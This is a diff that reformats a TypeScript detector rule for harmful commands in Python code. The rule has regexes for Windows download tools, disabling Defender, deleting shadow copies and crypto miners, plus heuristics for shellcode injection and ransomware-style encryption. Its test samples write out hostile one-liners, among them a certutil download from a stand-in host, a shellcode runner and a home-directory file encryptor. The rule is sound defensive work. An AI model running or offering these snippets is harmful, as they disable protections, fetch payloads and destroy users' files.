@@ -4,9 +4,18 @@ const RUNS = /^(?:os\.(?:system|popen)|subprocess\.(?:run|call|Popen|check_outpu
 
 /** Commands that no honest program needs, with what they do. */
 const COMMANDS: readonly (readonly [RegExp, string])[] = [
-  [/certutil[\s\S]{0,40}-urlcache|bitsadmin[\s\S]{0,40}\/transfer|mshta(?:\.exe)?["', ]+(?:https?:|javascript:|vbscript:)|regsvr32[\s\S]{0,60}\/i:http/i, 'It fetches and runs a program by a tool that is not made for it.'],
-  [/Set-MpPreference|DisableRealtimeMonitoring|Add-MpPreference[\s\S]{0,40}-Exclusion|advfirewall[\s\S]{0,40}state\s+off|(?:sc|net)(?:\.exe)?["', ]+stop["', ]+(?:WinDefend|mpssvc)/i, 'It switches off what protects the machine.'],
-  [/vssadmin[\s\S]{0,20}delete["', ]+shadows|wbadmin[\s\S]{0,20}delete|bcdedit[\s\S]{0,60}recoveryenabled/i, 'It deletes the copies from which files could be restored.'],
+  [
+    /certutil[\s\S]{0,40}-urlcache|bitsadmin[\s\S]{0,40}\/transfer|mshta(?:\.exe)?["', ]+(?:https?:|javascript:|vbscript:)|regsvr32[\s\S]{0,60}\/i:http/i,
+    'It fetches and runs a program by a tool that is not made for it.',
+  ],
+  [
+    /Set-MpPreference|DisableRealtimeMonitoring|Add-MpPreference[\s\S]{0,40}-Exclusion|advfirewall[\s\S]{0,40}state\s+off|(?:sc|net)(?:\.exe)?["', ]+stop["', ]+(?:WinDefend|mpssvc)/i,
+    'It switches off what protects the machine.',
+  ],
+  [
+    /vssadmin[\s\S]{0,20}delete["', ]+shadows|wbadmin[\s\S]{0,20}delete|bcdedit[\s\S]{0,60}recoveryenabled/i,
+    'It deletes the copies from which files could be restored.',
+  ],
   [/stratum\+(?:tcp|ssl|tls):\/\/|\bxmrig\b|\bminerd\b/i, 'It digs for coins on somebody else’s machine.'],
 ];
 
@@ -24,15 +33,34 @@ export const pythonHarmfulCommand = pythonRule({
       const command = COMMANDS.find(([form]) => form.test(text));
       return command === undefined ? undefined : { message: command[1] };
     }
-    if (/\.(?:CreateThread|CreateRemoteThread|RtlCreateUserThread|EnumSystemLocalesA?)$/.test(call.name) && fact.calls.some(({ name }) => /\.VirtualAlloc(?:Ex)?$/.test(name)) && fact.calls.some(({ name }) => /\.(?:RtlMoveMemory|WriteProcessMemory|memmove)$/.test(name))) return { confidence: 'high', message: 'It puts machine code into memory and runs it.' };
-    if (/\.encrypt$/.test(call.name) && fact.calls.some(({ name, within, args }) => within === call.within && /^os\.(?:rename|remove|unlink|replace)$/.test(name) && args[0]?.constant === undefined) && fact.calls.some(({ name, args, text }) => name === 'os.walk' && /expanduser\(["']~|["'](?:\/|\/home|C:\\+(?:Users)?)["']/.test(`${text} ${String(args[0]?.constant ?? '')}`))) return { message: 'It encrypts all files of whoever runs it.' };
+    if (
+      /\.(?:CreateThread|CreateRemoteThread|RtlCreateUserThread|EnumSystemLocalesA?)$/.test(call.name) &&
+      fact.calls.some(({ name }) => /\.VirtualAlloc(?:Ex)?$/.test(name)) &&
+      fact.calls.some(({ name }) => /\.(?:RtlMoveMemory|WriteProcessMemory|memmove)$/.test(name))
+    )
+      return { confidence: 'high', message: 'It puts machine code into memory and runs it.' };
+    if (
+      /\.encrypt$/.test(call.name) &&
+      fact.calls.some(
+        ({ name, within, args }) =>
+          within === call.within &&
+          /^os\.(?:rename|remove|unlink|replace)$/.test(name) &&
+          args[0]?.constant === undefined,
+      ) &&
+      fact.calls.some(
+        ({ name, args, text }) =>
+          name === 'os.walk' &&
+          /expanduser\(["']~|["'](?:\/|\/home|C:\\+(?:Users)?)["']/.test(`${text} ${String(args[0]?.constant ?? '')}`),
+      )
+    )
+      return { message: 'It encrypts all files of whoever runs it.' };
     return undefined;
   },
   bad: [
-    "import subprocess\nsubprocess.run('powershell -Command \"Set-MpPreference -DisableRealtimeMonitoring $true\"', shell=True)",
+    'import subprocess\nsubprocess.run(\'powershell -Command "Set-MpPreference -DisableRealtimeMonitoring $true"\', shell=True)',
     "import os\nos.system('certutil -urlcache -split -f https://x.dev/a.exe a.exe')",
     "import subprocess\nsubprocess.Popen(['/tmp/a', '-o', 'stratum+tcp://pool.x.dev:3333'])",
-    "import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, 9, 12288, 64)\nk.RtlMoveMemory(p, b, 9)\nk.CreateThread(0, 0, p, 0, 0, 0)",
+    'import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, 9, 12288, 64)\nk.RtlMoveMemory(p, b, 9)\nk.CreateThread(0, 0, p, 0, 0, 0)',
     "import os\ndef go(f):\n    for root, d, files in os.walk(os.path.expanduser('~')):\n        for n in files:\n            p = os.path.join(root, n)\n            open(p, 'wb').write(f.encrypt(open(p, 'rb').read()))\n            os.rename(p, p + '.x')",
   ],
   good: [
